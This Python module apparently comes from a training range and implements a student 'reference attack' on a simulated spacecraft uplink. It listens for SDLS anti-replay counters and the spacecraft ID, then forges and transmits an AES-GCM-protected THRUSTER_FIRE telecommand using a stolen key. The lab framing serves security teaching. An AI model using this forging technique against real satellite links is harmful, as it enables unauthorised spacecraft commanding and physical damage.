"""The uplink air from the student's radio, for scripts on the workstation: what a student
does with ``tcpdump`` and scapy, for the reference attacks that hold a stolen key.

:class:`UplinkListener` hears the uplink (UDP 5101 on the rf segment) and keeps, per SPI,
the highest SDLS counter seen (the IV of AES-GCM frames is the SA's counter, in clear)
and the spacecraft id of the frames; :func:`keyed_thruster_fire` builds THRUSTER_FIRE
with the scapy layers (type-BD TC frame, so COP-1 is not involved / segment header /
space packet / PUS-C 8,1) and protects it with a key; :func:`transmit` sends it to the
rf-link (UDP 5100).

    from labctl.range.uplinkair import UplinkListener
    heard = UplinkListener().start()
    print(heard.fire(key, spi, 90.0))                # None when nothing was heard
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from typing import Final, Self

from scapy.packet import Raw

from labctl.protocols.layers import (
    PusTc,
    SDLSHeader,
    SpacePacket,
    TCFrame,
    TCSegment,
    configure_tc,
    dissect,
    sdls_protect,
)
from labctl.protocols.sdls import Keyring, SdlsEngine, SecurityAssociation
from labctl.range import wiring

RF_LINK: Final = (wiring.RF_LINK, wiring.UPLINK_IN)
PLATFORM_APID: Final = 0x064
THRUSTER_FIRE: Final = 4  # 8,1 function id
BURN_MS: Final = 2600


class UplinkListener:
    """Highest SDLS counter (IV) heard on the uplink air per SPI, and the SCID."""

    def __init__(self) -> None:
        self.counters: dict[int, int] = {}
        self.scid: int | None = None
        self._lock = threading.Lock()

    def start(self) -> Self:
        """Listen in a background thread (for as long as the script runs)."""
        threading.Thread(target=self._listen, daemon=True).start()
        return self

    def _listen(self) -> None:
        configure_tc(sdls=True)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind(("", wiring.UPLINK_AIR))
            while True:
                datagram = sock.recv(2048)
                try:
                    frame = dissect(TCFrame, datagram)
                except ValueError:
                    continue
                if frame.ctrl_cmd or SDLSHeader not in frame:
                    continue  # COP-1 directives go in clear
                header = frame[SDLSHeader]
                counter = int.from_bytes(bytes(header.iv), "big")
                with self._lock:
                    self.scid = int(frame.scid)
                    if counter > self.counters.get(header.spi, 0):
                        self.counters[header.spi] = counter

    def heard(self, spi: int) -> tuple[int, int] | None:
        """(SCID, highest counter) for ``spi``, or None while nothing was heard on it."""
        with self._lock:
            if spi not in self.counters or self.scid is None:
                return None
            return self.scid, self.counters[spi]

    def wait(self, spi: int, timeout: float) -> tuple[int, int] | None:
        """:meth:`heard`, once a frame on ``spi`` went by or ``timeout`` seconds passed."""
        deadline = time.monotonic() + timeout
        while (seen := self.heard(spi)) is None and time.monotonic() < deadline:
            time.sleep(0.5)
        return seen

    def fire(self, key: bytes, spi: int, timeout: float) -> str | None:
        """Once a frame on ``spi`` is heard (within ``timeout`` s), transmit THRUSTER_FIRE
        protected with ``key`` and the next sequence number; what was sent, or None when
        nothing was heard on ``spi``."""
        seen = self.wait(spi, timeout)
        if seen is None:
            return None
        scid, counter = seen
        number = counter + 1
        transmit(keyed_thruster_fire(key, spi, scid, number))
        return f"sent THRUSTER_FIRE {BURN_MS} ms, SCID {scid}, SPI {spi}, sequence number {number}"


def keyed_thruster_fire(
    key: bytes, spi: int, scid: int, arsn: int, burn_ms: int = BURN_MS
) -> bytes:
    """THRUSTER_FIRE in a type-BD frame, SDLS-protected with ``key`` on ``spi`` with the
    anti-replay sequence number ``arsn`` (above the last one the spacecraft took)."""
    frame = (
        TCFrame(bypass=1, scid=scid, vcid=0, seq=0)
        / TCSegment(seq_flags=3, map_id=0)
        / SpacePacket(apid=PLATFORM_APID, seq_count=0x2A2A)
        / PusTc(service=8, subtype=1)
        / Raw(struct.pack(">HH", THRUSTER_FIRE, burn_ms))
    )
    engine = SdlsEngine.of([SecurityAssociation(spi, sequence_number=arsn - 1)], Keyring({0: key}))
    return bytes(sdls_protect(frame, engine, spi))


def transmit(frame: bytes, target: tuple[str, int] = RF_LINK) -> None:
    """Send one frame to the rf-link's uplink input, as the student's radio."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(frame, target)
